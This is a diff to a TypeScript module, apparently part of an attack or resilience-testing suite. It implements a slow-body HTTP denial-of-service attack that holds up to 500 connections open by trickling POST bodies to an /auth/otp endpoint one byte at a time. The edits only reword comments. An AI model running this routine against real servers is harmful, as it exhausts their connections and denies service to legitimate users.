@@ -1,13 +1,13 @@
-// Opens requests whose bodies come byte by byte, and keeps as many open as the server lets it.
+// Opens requests whose bodies arrive byte by byte, and keeps as many open as the server allows.
 import { connect, type Socket } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
 import type { Attack, Target } from './attack.ts';
 
-/** Requests that are kept under way, how many are begun at a time, and the pause between. */
+/** The number of requests to keep in flight, how many to start at a time, and the pause between. */
 const MOST = 500;
 const AT_ONCE = 10;
 const GAP_MS = 50;
-/** Bytes that each request says it has; one comes with each round. */
+/** The announced length of each body. One byte arrives in each round. */
 const BYTES = 4000;
 
 export const slowBodies: Attack = {
@@ -34,7 +34,7 @@ function begin({ host, port, localAddress }: Target, open: Set<Socket>, onAnswer
   const socket = connect({ host, port, ...(localAddress === undefined ? {} : { localAddress }) });
   socket.once('data', onAnswer);
   socket.once('close', () => open.delete(socket));
-  // The server ends it: the attacker begins another one.
+  // The server ends the request, so the attacker starts another one.
   socket.on('error', () => open.delete(socket));
   const head = [
     'POST /auth/otp HTTP/1.1',
